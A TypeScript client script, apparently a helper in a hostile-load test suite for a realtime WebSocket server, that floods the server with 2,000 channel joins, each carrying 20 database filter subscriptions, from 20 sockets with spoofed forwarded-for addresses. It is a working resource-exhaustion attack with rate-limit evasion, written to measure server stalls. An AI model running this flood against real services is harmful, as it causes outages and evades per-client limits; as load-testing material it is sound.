/**
 * The filter flood of realtime-hostile.ts, run in its own process so that the attacker's
 * own work (serializing 2,000 joins, parsing the replies) is not counted as the server's
 * stall: 20 sockets, each from its own forwarded address, × 100 joins × 20 `costo=eq.N`
 * bindings. Prints the number of accepted joins once every reply is in, then keeps the
 * sockets (and their subscriptions) open until stdin closes.
 * Usage: tsx realtime-flood-client.ts <http url> <anon key>
 */
import WebSocket from 'ws'

async function main() {
  const [url = '', anonKey = ''] = process.argv.slice(2)
  const sockets = await Promise.all(
    Array.from({ length: 20 }, (_, i) => {
      const ws = new WebSocket(`${url.replace('http', 'ws')}/realtime/v1/websocket?apikey=${anonKey}&vsn=2.0.0`, { headers: { 'x-forwarded-for': `10.2.0.${i + 1}` } })
      return new Promise<WebSocket>((resolve, reject) => {
        ws.once('open', () => resolve(ws))
        ws.once('error', reject)
      })
    }),
  )
  let replies = 0
  let accepted = 0
  const all = new Promise<void>((resolve) => {
    for (const ws of sockets) {
      ws.on('message', (data) => {
        const frame = JSON.parse(String(data)) as [unknown, unknown, string, string, { status?: string }]
        if (frame[3] !== 'phx_reply') return
        if (frame[4].status === 'ok') accepted++
        if (++replies === 2000) resolve()
      })
    }
  })
  for (const ws of sockets) {
    for (let j = 0; j < 100; j++) {
      const bindings = Array.from({ length: 20 }, (_, k) => ({ event: '*', schema: 'public', table: 'tb_tratamientos', filter: `costo=eq.${j * 20 + k}` }))
      ws.send(JSON.stringify([`${j}`, `${j}`, `realtime:flood-${j}`, 'phx_join', { config: { postgres_changes: bindings } }]))
    }
  }
  await all
  process.stdout.write(`${JSON.stringify({ accepted })}\n`)
  process.stdin.resume()
  process.stdin.on('end', () => {
    for (const ws of sockets) ws.terminate()
    process.exit(0)
  })
}

void main()
